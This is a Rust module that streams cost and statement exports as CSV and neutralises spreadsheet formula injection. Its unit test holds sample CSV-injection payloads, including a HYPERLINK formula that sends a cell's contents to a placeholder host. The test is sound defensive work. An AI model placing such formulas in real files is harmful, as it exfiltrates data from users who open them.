//! Exports for finance teams, shared by `processor export` and the
//! gateway's `/v1/exports/*` so both produce the same bytes:
//! - [`focus`]: a FOCUS 1.0 cost and usage dataset (CSV), one row per day,
//!   tenant, provider, model and token type.
//! - [`statement`]: a tenant's monthly statement (CSV or JSON) per
//!   provider, model and use case, with totals.
//!
//! Both read the raw table, grouped in the database and streamed row by
//! row to an [`AsyncWrite`], so a month is never held in memory, and both
//! sum the stored `estimated_cost`, so an export reconciles with the ledger
//! to the last decimal.

pub mod focus;
pub mod split;
pub mod statement;

use chrono::{Datelike, NaiveDate};
use tokio::io::{AsyncWrite, AsyncWriteExt};

use crate::DbError;

/// The source of `ListCost`: the row's cost at the list price, recorded
/// since V8 (`list_cost`); rows stored before it, and unpriced rows, fall
/// back to the stored cost. The billed cost stays `estimated_cost`.
pub const LIST_COST_COLUMN: &str = "COALESCE(list_cost, estimated_cost)";

/// How many bytes an export buffers before writing them out.
const FLUSH_AT: usize = 64 * 1024;

#[derive(Debug, thiserror::Error)]
pub enum ExportError {
    #[error(transparent)]
    Database(#[from] DbError),
    #[error("cannot write the export: {0}")]
    Write(#[from] std::io::Error),
    #[error("invalid export request: {0}")]
    Invalid(String),
    #[error("a stored row's labels cannot be read: {0}")]
    Labels(String),
    #[error("cannot render JSON: {0}")]
    Json(#[from] serde_json::Error),
}

pub use ledger::day::midnight;

/// The first day of the month after `day`'s.
pub fn next_month(day: NaiveDate) -> NaiveDate {
    let first = day.with_day0(0).unwrap_or(day);
    first
        .checked_add_months(chrono::Months::new(1))
        .unwrap_or(first)
}

/// Buffered output: lines are collected and written in blocks.
pub(crate) struct Output<'a, W> {
    out: &'a mut W,
    buffer: Vec<u8>,
}

impl<'a, W: AsyncWrite + Unpin> Output<'a, W> {
    pub(crate) fn new(out: &'a mut W) -> Self {
        Self {
            out,
            buffer: Vec::with_capacity(FLUSH_AT + 4096),
        }
    }

    pub(crate) async fn push(&mut self, text: &str) -> Result<(), ExportError> {
        self.buffer.extend_from_slice(text.as_bytes());
        if self.buffer.len() >= FLUSH_AT {
            self.out.write_all(&self.buffer).await?;
            self.buffer.clear();
        }
        Ok(())
    }

    pub(crate) async fn finish(self) -> Result<(), ExportError> {
        self.out.write_all(&self.buffer).await?;
        self.out.flush().await?;
        Ok(())
    }
}

/// Appends `fields` as one CSV line (RFC 4180: fields with a comma, quote
/// or line break are quoted, quotes doubled; CRLF is not required by FOCUS
/// tools, so lines end in `\n`). Every field is [`neutralised`] first.
pub(crate) fn csv_line<S: AsRef<str>>(fields: &[S]) -> String {
    let mut line = String::new();
    for (index, field) in fields.iter().enumerate() {
        if index > 0 {
            line.push(',');
        }
        let field = neutralised(field.as_ref());
        if field.contains([',', '"', '\n', '\r']) {
            line.push('"');
            line.push_str(&field.replace('"', "\"\""));
            line.push('"');
        } else {
            line.push_str(&field);
        }
    }
    line.push('\n');
    line
}

/// A field a spreadsheet would run as a formula (it begins with `=`, `+`,
/// `-`, `@`, a tab or a carriage return: a tenant's model name or label
/// value can) gets a leading single quote, OWASP's rule against CSV
/// injection; numbers, negative ones included, stay numbers.
pub(crate) fn neutralised(field: &str) -> std::borrow::Cow<'_, str> {
    let formula = field.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if formula && !is_number(field) {
        std::borrow::Cow::Owned(format!("'{field}"))
    } else {
        std::borrow::Cow::Borrowed(field)
    }
}

/// A plain decimal number (`-0.25`, `+3`, `1e-5`), not `-inf` or `NaN`.
fn is_number(field: &str) -> bool {
    field
        .bytes()
        .all(|b| b.is_ascii_digit() || matches!(b, b'+' | b'-' | b'.' | b'e' | b'E'))
        && field.parse::<f64>().is_ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_cell_starts_a_formula_and_numbers_stay_numbers() {
        assert_eq!(
            csv_line(&[
                "=HYPERLINK(\"http://x.invalid/?\"&A2,\"x\")",
                "=1+1",
                "+1+cmd",
                "-2+3",
                "@SUM(A1)",
                "\tx",
                "\rx",
            ]),
            "\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&A2,\"\"x\"\")\",'=1+1,'+1+cmd,'-2+3,\
             '@SUM(A1),'\tx,\"'\rx\"\n"
        );
        assert_eq!(
            csv_line(&["-0.2500000000", "+3", "1e-5", "-1", "gpt-4o", "a=b", "-inf"]),
            "-0.2500000000,+3,1e-5,-1,gpt-4o,a=b,'-inf\n"
        );
    }

    #[test]
    fn csv_quotes_only_what_needs_it_and_months_roll_over() {
        assert_eq!(
            csv_line(&["a", "b,c", "say \"hi\"", ""]),
            "a,\"b,c\",\"say \"\"hi\"\"\",\n"
        );
        let day = |y, m, d| NaiveDate::from_ymd_opt(y, m, d).expect("day");
        assert_eq!(next_month(day(2026, 1, 31)), day(2026, 2, 1));
        assert_eq!(next_month(day(2026, 12, 1)), day(2027, 1, 1));
    }
}
